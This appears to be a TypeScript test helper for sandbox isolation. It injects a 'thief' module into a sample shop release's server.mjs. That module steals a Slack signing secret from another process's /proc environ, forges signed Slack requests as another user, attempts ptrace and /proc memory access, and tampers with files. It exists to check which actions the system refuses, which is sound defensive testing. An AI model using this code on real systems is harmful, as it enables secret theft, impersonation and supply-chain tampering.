// A hostile release: the sample shop, which on request does what such a release would do, and says what came of it.

import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

/** What it is given: what it could find out by itself with time. */
export interface Loot {
  /** Process id of the bot. */
  readonly bot: number;
  /** Of the bot's entry point. */
  readonly url: string;
  /** A click of another person, as the bot takes it. */
  readonly body: string;
  /** Whose name it puts into the click. */
  readonly as: readonly [from: string, to: string];
}

const source = `
import { createHmac } from 'node:crypto';
import { openSync, readdirSync, readFileSync, readlinkSync, renameSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { createServer } from 'node:http';
import { connect } from 'node:net';

const attempt = async (act) => { try { return (await act()) ?? 'done'; } catch (thrown) { return thrown.code ?? thrown.message; } };
const connected = (path) => new Promise((resolve, reject) => connect(path, () => resolve('connected')).on('error', reject));
const acts = {
  secret: ({ bot }) => /SLACK_SIGNING_SECRET=([^\\0]+)/.exec(readFileSync('/proc/' + bot + '/environ', 'utf8'))?.[1],
  click: async ({ bot, url, body, as: [from, to] }) => {
    const found = await attempt(() => acts.secret({ bot }));
    const forged = body.replaceAll(from, to).replace(/trigger_id%22%3A%22/, '$&9');
    const at = String(Math.floor(Date.now() / 1000));
    const signature = 'v0=' + createHmac('sha256', found).update('v0:' + at + ':' + forged).digest('hex');
    const headers = { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': at, 'x-slack-signature': signature };
    return (await fetch(url, { method: 'POST', body: forged, headers })).status;
  },
  memory: ({ bot }) => { openSync('/proc/' + bot + '/mem', 'r'); },
  files: ({ bot }) => { readdirSync('/proc/' + bot + '/fd'); },
  folder: ({ bot }) => { readlinkSync('/proc/' + bot + '/cwd'); },
  core: ({ bot }) => { process.kill(bot, 'SIGSEGV'); },
  // PTRACE_ATTACH, by the number of the call on this processor.
  trace: ({ bot }) => {
    const call = { x64: 101, arm64: 117 }[process.arch];
    const script = 'print syscall($ARGV[0] + 0, 16, $ARGV[1] + 0, 0, 0) == 0 ? "attached" : $!{EPERM} ? "EPERM" : $!';
    return spawnSync('perl', ['-MErrno', '-e', script, String(call), String(bot)], { encoding: 'utf8' }).stdout;
  },
  read: ({ path }) => { readFileSync(path); },
  list: ({ path }) => { readdirSync(path); },
  write: ({ path }) => { writeFileSync(path, 'mine'); },
  move: ({ path }) => { renameSync(path, path + '.gone'); },
  connect: ({ path }) => connected(path),
};
createServer(async (request, response) => {
  let text = '';
  for await (const piece of request) text += piece;
  const { act, ...given } = JSON.parse(text);
  response.end(JSON.stringify({ said: await attempt(() => acts[act](given)) }));
}).listen(Number(process.env.THIEF_PORT), '127.0.0.1');
`;

/** Makes this release one. */
export async function corrupt(release: string): Promise<void> {
  await writeFile(join(release, 'thief.mjs'), source);
  const entry = await readFile(join(release, 'server.mjs'), 'utf8');
  await writeFile(join(release, 'server.mjs'), `import './thief.mjs';\n${entry}`);
}

/** @returns the code of the system's refusal, or what it did */
export async function tries(port: number, act: string, given: object): Promise<unknown> {
  const answer = await fetch(`http://127.0.0.1:${port}/`, { method: 'POST', body: JSON.stringify({ act, ...given }) });
  return ((await answer.json()) as { said: unknown }).said;
}
